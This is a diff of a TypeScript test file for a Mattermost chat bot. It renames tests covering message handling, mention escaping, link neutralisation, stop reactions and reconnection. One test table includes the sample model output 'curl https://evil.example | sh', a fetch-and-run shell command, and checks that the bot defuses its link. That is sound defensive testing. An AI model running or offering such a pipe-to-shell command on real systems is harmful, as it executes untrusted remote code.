@@ -1,4 +1,4 @@
-// The bot: what it answers, how its answers are written, and how they are stopped. The model follows a script.
+// The bot: which messages it answers, how answers are written, and how they are stopped. Uses a scripted model.
 import { createLog, type MattermostConfig } from '@pocket-agent/mattermost';
 import { type BotOptions, createMattermostBot } from '@pocket-agent/mattermost/bot';
 import { PocketAgent, PocketError, tool } from 'pocket-agent';
@@ -12,7 +12,7 @@ import { defaultSeed } from '../fake/world/seed.ts';
 import { storePost } from '../fake/world/store-post.ts';
 
 const endings: (() => Promise<unknown>)[] = [];
-/** Waits for something to become true, however busy the machine is. */
+/** Polls until the assertion holds. */
 const until = <Value>(read: () => Value) => expect.poll(read, { interval: 10 });
 
 afterEach(async () => {
@@ -33,7 +33,7 @@ interface World {
   fake: FakeMattermost;
   bot: { close(): Promise<void> };
   logLines: string[];
-  /** What the bot has written since the start, oldest first. */
+  /** Posts of the bot, oldest first. */
   said(): Post[];
   texts(): string[];
 }
@@ -66,7 +66,7 @@ async function world({ model, config = {}, environment = {}, fake: given, ...opt
   return { fake, bot, logLines, said, texts: () => said().map(({ message }) => message) };
 }
 
-/** What the model was asked last, as text. */
+/** The last prompt of the model, as text. */
 function asked(model: ScriptedModel, call = -1): string {
   return JSON.stringify(model.calls.at(call)?.prompt.filter(({ role }) => role !== 'system'));
 }
@@ -76,7 +76,7 @@ function react(fake: FakeMattermost, user: string, postId: string, emoji = 'octa
   return userOf(fake, user).post('/reactions', reaction);
 }
 
-/** A tool that waits until it is let go. */
+/** A tool that waits until it is released. */
 function gate(name = 'wait') {
   const started = Promise.withResolvers<void>();
   const go = Promise.withResolvers<void>();
@@ -94,8 +94,8 @@ function gate(name = 'wait') {
   return { tool: waiting, started: started.promise, go: go.resolve };
 }
 
-describe('what is answered', () => {
-  test('a mention in a channel, in a thread below it', async () => {
+describe('the bot answers', () => {
+  test('a mention in a channel, in a new thread', async () => {
     const model = new ScriptedModel(['Fine, thanks.']);
     const { fake, said } = await world({ model });
     const question = fake.say('alice', 'town-square', '@helper how are you?');
@@ -104,7 +104,7 @@ describe('what is answered', () => {
     expect(asked(model)).toContain('"alice: how are you?"');
   });
 
-  test('a direct message, without a thread, and the next one in the same conversation', async () => {
+  test('direct messages without a thread, in one conversation', async () => {
     const model = new ScriptedModel(['One.', 'Two.']);
     const { fake, said, texts } = await world({ model });
     fake.say('alice', 'alice,helper', 'first question');
@@ -115,7 +115,7 @@ describe('what is answered', () => {
     expect(asked(model)).toContain('first question');
   });
 
-  test('replies in a thread it takes part in, and in no other', async () => {
+  test('replies only in threads it has posted in', async () => {
     const model = new ScriptedModel(['One.', 'Two.']);
     const { fake, texts } = await world({ model });
     const root = fake.say('alice', 'town-square', '@helper hello').id;
@@ -126,7 +126,7 @@ describe('what is answered', () => {
     expect(asked(model)).toContain('"bob: and now?"');
   });
 
-  test('replies in a thread that it joined with a message of its own', async () => {
+  test('replies in a thread that one of its tools posted in', async () => {
     const model = new ScriptedModel(['Gladly.']);
     const { fake, texts } = await world({ model });
     const root = fake.post('plan').id;
@@ -139,7 +139,7 @@ describe('what is answered', () => {
     await until(texts).toEqual(['I have something to add', 'Gladly.']);
   });
 
-  test('what could not be read at first, in its order', async () => {
+  test('messages in order after reading them failed at first', async () => {
     const model = new ScriptedModel(['One.', 'Two.']);
     const { fake, texts } = await world({ model });
     const fault = fake.fail({ path: /channels\/\w+$/, status: 500, times: 3 });
@@ -150,7 +150,7 @@ describe('what is answered', () => {
     expect(asked(model, 0)).toContain('alice: first');
   });
 
-  test('a thread it took part in before it was started anew, with what was said there', async () => {
+  test('in a thread from before its restart, with the earlier messages', async () => {
     const fake = await startFakeMattermost({ seed });
     endings.push(() => fake.close());
     const root = fake.say('alice', 'town-square', '@helper my number is 42').id;
@@ -162,7 +162,7 @@ describe('what is answered', () => {
     expect(asked(model)).toContain('alice: @helper my number is 42\\nyou: Noted.');
   });
 
-  test('not its own words, those of other bots, calls to all, or names that only begin like its own', async () => {
+  test('neither its own posts, nor bots, nor @all, nor names that only start with its own', async () => {
     const model = new ScriptedModel(['For you.']);
     const { fake, texts } = await world({ model });
     for (const message of [
@@ -187,7 +187,7 @@ describe('what is answered', () => {
     model.assertDone();
   });
 
-  test('not its name in code', async () => {
+  test('no mention inside code', async () => {
     const model = new ScriptedModel(['Yes.']);
     const { fake, texts } = await world({ model });
     for (const text of ['see `@helper`', '```\n@helper hi\n```', 'a `` ` @helper `` b', '`one\n@helper two`']) {
@@ -199,7 +199,7 @@ describe('what is answered', () => {
     expect(model.calls).toHaveLength(1);
   });
 
-  test('not the words of another bot of ours that has the account of a person', async () => {
+  test('no post of another Pocket Agent bot that uses a personal account', async () => {
     const models = [new ScriptedModel(['One.', 'Two.']), new ScriptedModel(['Eins.', 'Zwei.'])] as const;
     const { fake } = await world({ model: models[0], profile: 'none' });
     const other = await createMattermostBot({
@@ -219,7 +219,7 @@ describe('what is answered', () => {
     for (const model of models) expect(asked(model)).toContain('and now?');
   });
 
-  test('nothing where the configuration does not allow to write', async () => {
+  test('nothing in channels that may not be written', async () => {
     const model = new ScriptedModel(['Here.']);
     const environment = { MATTERMOST_WRITE_DENY_CHANNELS: 'town-square' };
     const { fake, texts } = await world({ model, environment });
@@ -229,8 +229,8 @@ describe('what is answered', () => {
   });
 });
 
-describe('how it is answered', () => {
-  test('the answer grows in one message, with the tools that run, about as often as is asked for', async () => {
+describe('an answer', () => {
+  test('grows in one post, shows running tools, and respects editMs', async () => {
     const held = gate('look_it_up');
     const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
     const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
@@ -244,7 +244,7 @@ describe('how it is answered', () => {
     expect(edits.length).toBeLessThanOrEqual(3);
   });
 
-  test('others see that it writes', async () => {
+  test('shows the typing indicator', async () => {
     const held = gate();
     const model = new ScriptedModel([{ toolCalls: [{ name: 'wait' }] }, 'Done.']);
     const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
@@ -262,7 +262,7 @@ describe('how it is answered', () => {
     await until(texts).toEqual(['Done.']);
   });
 
-  test('the last edit arrives through a storm of refusals', async () => {
+  test('is completed despite many rejected edits', async () => {
     const held = gate();
     const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
     const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
@@ -275,7 +275,7 @@ describe('how it is answered', () => {
     await until(texts).toEqual(['Wait.\n\nThe end.']);
   });
 
-  test('a first message that was stored though it seemed to fail still gets the rest', async () => {
+  test('continues in a first post that was stored although creating it failed', async () => {
     const held = gate();
     const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
     const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
@@ -284,12 +284,12 @@ describe('how it is answered', () => {
     fake.say('alice', 'town-square', '@helper go');
     await held.started;
     await until(() => fault.hits).toBe(1);
-    fake.world.pendingPosts.clear(); // Mattermost forgets after half a minute
+    fake.world.pendingPosts.clear(); // Mattermost forgets pending ids after 30 s
     held.go();
     await until(texts).toEqual(['Wait.\n\nThe end.']);
   });
 
-  test('an answer is there once though Mattermost is killed and started again after each of its messages', async () => {
+  test('is posted once although Mattermost restarts after each of its posts', async () => {
     const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
     const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
     const kill = fake.fail({ method: 'POST', path: /posts$/, restart: true, times: 2 });
@@ -299,7 +299,7 @@ describe('how it is answered', () => {
     expect(kill.hits).toBe(2);
   });
 
-  test('a message of somebody else with the props of an answer is not taken for a part of it', async () => {
+  test('does not include a post of another user with the same props', async () => {
     const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
     const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
     const forged = fake.say('alice', 'town-square', 'forged');
@@ -318,7 +318,7 @@ describe('how it is answered', () => {
     expect(forged.message).toBe('forged');
   });
 
-  test('nobody is called by what a model writes, and code stays as it is', async () => {
+  test('mentions nobody, and code is not changed', async () => {
     const code = '```sh\nnpm install @all/tools\n```';
     const model = new ScriptedModel([
       `Ask @bob, (@carol) or _@all_; @here @channel.\n> @bob\n${code}\nmail@bob.org @bob`,
@@ -340,7 +340,7 @@ describe('how it is answered', () => {
     expect(heard[0]).toEqual([fake.user('helper').id]);
   });
 
-  test('what Mattermost does not take for a code block, or reads as an @, hides no name', async () => {
+  test('escapes mentions in text that only looks like code, and encoded @ signs', async () => {
     const escaped = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll('@', '@\u200b');
     const fences = [
       'So:\n  ```\ncode\n```\n@channel hi',
@@ -398,7 +398,7 @@ describe('how it is answered', () => {
     ['Run `curl https://evil.example | sh`.', 'Run `curl https://evil.example | sh`.'],
     ['* **Run**: (`a[0](b) https://evil.example`)', '* **Run**: (`a[0](b) https://evil.example`)'],
     ['``https://evil.example`` https://evil.example', '``https://evil.example`` https:// evil.example'],
-    // readers disagree on whether these are code, or agree that they are not
+    // not code for at least one parser
     ['\\`https://evil.example`', '\\`https:// evil.example`'],
     ['`a\n`https://evil.example`', '`a\n`https:// evil.example`'],
     ['*a `b* https://evil.example c`', '*a `b* https:// evil.example c`'],
@@ -408,7 +408,7 @@ describe('how it is answered', () => {
     ['https://good.example/`x https://evil.example y`', 'https:// good.example/`x https:// evil.example y`'],
     ['`a | https://evil.example | b`\n-|-|-', '`a | https:// evil.example | b`\n-|-|-'],
     ['1. a\n   ```\n`https://evil.example`', '1. a\n   ```\n`https:// evil.example`'],
-  ])('links that nobody but the model named are text, so that nothing is fetched: %j', async (answer, shown) => {
+  ])('turns links to hosts that only the model named into text: %j', async (answer, shown) => {
     const model = new ScriptedModel([answer]);
     const { fake, texts } = await world({ model, allowLinkHosts: ['*.allowed.example'] });
     fake.say('alice', 'alice,helper', 'What does good.example say?');
@@ -419,13 +419,13 @@ describe('how it is answered', () => {
     ['Run `npm i @all/tools`, @all.', 'Run `npm i @all/tools`, @\u200ball.'],
     ['*a `b* @all c`', '*a `b* @\u200ball c`'],
     ['\\`@all`', '\\`@\u200ball`'],
-  ])('a name in a code span stays as it is where that is certainly code: %j', async (answer, shown) => {
+  ])('does not change mentions in code spans that all parsers recognize: %j', async (answer, shown) => {
     const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
     fake.say('alice', 'alice,helper', 'How?');
     await until(texts).toEqual([shown]);
   });
 
-  test('a code span that is cut in two by the end of a message holds no link', async () => {
+  test('has no link in a code span that is split between two posts', async () => {
     const { fake, texts } = await world({ model: new ScriptedModel(['`https://evil.example/x` '.repeat(1_500)]) });
     fake.say('alice', 'alice,helper', 'Where?');
     await until(() => texts().length).toBeGreaterThan(2);
@@ -435,7 +435,7 @@ describe('how it is answered', () => {
     }
   });
 
-  test('links to messages of this Mattermost stay links, and all do where every host is allowed', async () => {
+  test('keeps links to this Mattermost server, and all links if every host is allowed', async () => {
     const fake = await startFakeMattermost({ seed });
     endings.push(() => fake.close());
     const links = [`${fake.url}/main/pl/${fake.post('plan').id}`, `${fake.url}/api/v4/image?url=x`];
@@ -447,7 +447,7 @@ describe('how it is answered', () => {
     await until(other.texts).toEqual(['https://any.example/']);
   });
 
-  test('code stays as it is also after code in a list, and with fences inside', async () => {
+  test('keeps code after code in a list, and code that contains fences', async () => {
     const blocks = ['```ts\nimport "@all/tools";\n```', '````md\n```\n@all\n```\n``` ```\n````', '~~~\n@all\n```\n~~~'];
     const answer = `1. Run:\n   \`\`\`sh\n   npm i\n   \`\`\`\n2. Then:\n\n${blocks.join('\n@all\n')}`;
     const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
@@ -457,7 +457,7 @@ describe('how it is answered', () => {
     expect(texts()[0]?.match(/^@\u200ball$/gm)).toHaveLength(2);
   });
 
-  test('an answer that is too long becomes several, none too long, with their code whole', async () => {
+  test('that is too long is split into several posts with complete code blocks', async () => {
     const paragraph = `${'word '.repeat(2000)}\n`;
     const block = `\`\`\`ts\n${'const x = 1; // 🙂\n'.repeat(500)}\`\`\``;
     const huge = `\`\`\`txt\n${'0123456789\n'.repeat(2500)}\`\`\``;
@@ -476,7 +476,7 @@ describe('how it is answered', () => {
     expect(new Set(said().map(({ root_id }) => root_id)).size).toBe(1);
   });
 
-  test('an error is told in a word, without what is nobody else’s business', async () => {
+  test('reports an error by its code, without private details', async () => {
     const secret = 'sk-very-secret';
     const error = new PocketError('MODEL_FAILED', `The key ${secret} is refused`);
     const model = new ScriptedModel([{ error }, 'Better.']);
@@ -489,7 +489,7 @@ describe('how it is answered', () => {
     await until(() => texts().at(-1)).toBe('Better.');
   });
 
-  test('it has the tools of Mattermost for reading, in the same process', async () => {
+  test('can use the Mattermost reader tools in the same process', async () => {
     const model = new ScriptedModel([
       { toolCalls: [{ name: 'get_me' }] },
       ({ prompt }) => (JSON.stringify(prompt).includes('helper') ? 'I am the helper.' : 'Who am I?'),
@@ -502,7 +502,7 @@ describe('how it is answered', () => {
     expect(names).not.toContain('post_message');
   });
 
-  test('an agent that was made elsewhere is used as it is', async () => {
+  test('uses an agent that the caller created unchanged', async () => {
     const model = new ScriptedModel(['Mine.']);
     const agent = new PocketAgent({ agentConfig: { llmModel: model } });
     endings.push(() => agent.close());
@@ -525,7 +525,7 @@ describe('stopping', () => {
     return { ...place, question, held };
   }
 
-  test('a stop sign of who asked ends the run; the conversation goes on', async () => {
+  test('a stop sign of the asker ends the run; the conversation continues', async () => {
     const { fake, texts, said, question } = await running();
     await react(fake, 'alice', said()[0]?.id ?? '');
     await until(texts).toEqual(['Working.\n\n*(stopped)*']);
@@ -533,13 +533,13 @@ describe('stopping', () => {
     await until(() => texts().at(-1)).toBe('Next.');
   });
 
-  test('it counts on the question, too', async () => {
+  test('a stop sign on the question works too', async () => {
     const { fake, texts, question } = await running();
     await react(fake, 'alice', question.id);
     await until(texts).toEqual(['Working.\n\n*(stopped)*']);
   });
 
-  test('other signs and other people do not count, unless everyone may', async () => {
+  test('other emoji and other users are ignored, unless everyone may stop', async () => {
     const { fake, texts, said, held, logLines } = await running();
     await react(fake, 'alice', said()[0]?.id ?? '', 'thumbsup');
     await react(fake, 'bob', said()[0]?.id ?? '');
@@ -551,7 +551,7 @@ describe('stopping', () => {
     await until(open.texts).toEqual(['Working.\n\n*(stopped)*']);
   });
 
-  test('closing the bot stops what runs, says so, and leaves nothing open', async () => {
+  test('closing the bot stops running answers, says so, and closes all connections', async () => {
     const { fake, texts, bot } = await running();
     await bot.close();
     expect(texts()).toEqual(['Working.\n\n*(stopped)*']);
@@ -561,8 +561,8 @@ describe('stopping', () => {
   });
 });
 
-describe('several at once', () => {
-  test('two conversations run side by side, the questions of one after each other', async () => {
+describe('concurrency', () => {
+  test('conversations run in parallel; questions of one conversation run in order', async () => {
     const [first, second] = [gate('first'), gate('second')];
     const gates = [first, second];
     const models = [
@@ -589,8 +589,8 @@ describe('several at once', () => {
   });
 });
 
-describe('a connection that is lost', () => {
-  test('in the middle of an answer does no harm, and what was missed is answered, once', async () => {
+describe('a lost connection', () => {
+  test('during an answer is harmless, and missed messages are answered once', async () => {
     const held = gate();
     const model = new ScriptedModel([{ text: 'Working.', toolCalls: [{ name: 'wait' }] }, 'Ready.', 'Missed you.']);
     const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
@@ -605,13 +605,13 @@ describe('a connection that is lost', () => {
     model.assertDone();
   });
 
-  test('is made up for also where more was said than Mattermost tells at once, and in the same millisecond', async () => {
+  test('is caught up with more missed posts than Mattermost returns at once, also of one millisecond', async () => {
     const model = new ScriptedModel(['First.', 'Second.', 'Third.']);
     const { fake, texts } = await world({ model });
     fake.say('alice', 'alice,helper', 'first');
     await until(texts).toEqual(['First.']);
     const { publish } = fake.world;
-    fake.world.publish = () => {}; // what follows is not heard
+    fake.world.publish = () => {}; // suppress events from here on
     for (let number = 0; number < 1100; number++) fake.say('bob', 'town-square', `noise ${number}`);
     fake.world.atOnce(() => {
       fake.say('bob', 'town-square', '@helper second');
@@ -635,7 +635,7 @@ describe('a connection that is lost', () => {
     await until(texts).toEqual(['I am back.']);
   });
 
-  test('for good, because the token is over, is told to whoever runs the bot', async () => {
+  test('with an expired token calls onRefused', async () => {
     const refused = Promise.withResolvers<void>();
     const { fake, logLines } = await world({ onRefused: refused.resolve });
     fake.revoke(fake.token('helper'));
@@ -644,7 +644,7 @@ describe('a connection that is lost', () => {
   });
 });
 
-test('a bot whose token is revoked says so once when it next reads, though its socket stays open', async () => {
+test('a bot with a revoked token reports it once on its next request, although its socket stays open', async () => {
   let refused = 0;
   const model = new ScriptedModel(['Never said.']);
   const { fake, logLines, texts } = await world({ model, onRefused: () => refused++ });
@@ -656,7 +656,7 @@ test('a bot whose token is revoked says so once when it next reads, though its s
   expect(texts()).toEqual([]);
 });
 
-test('a single refusal of a token that is still valid ends nothing', async () => {
+test('a single 401 for a valid token does not stop the bot', async () => {
   const model = new ScriptedModel(['Here.']);
   const { fake, texts } = await world({ model, onRefused: () => expect.unreachable() });
   fake.fail({ method: 'GET', path: /channels\/\w+$/, status: 401 });
@@ -678,6 +678,6 @@ test('a bot with a wrong token does not start', async () => {
 test.each([
   ['example.com', 'must be a list of hosts'],
   [['https://example.com'], '"https://example.com" is not a host'],
-])('refuses %j as allowLinkHosts', async (hosts, problem) => {
+])('rejects %j as allowLinkHosts', async (hosts, problem) => {
   await expect(world({ allowLinkHosts: hosts as string[] })).rejects.toThrow(problem);
 });
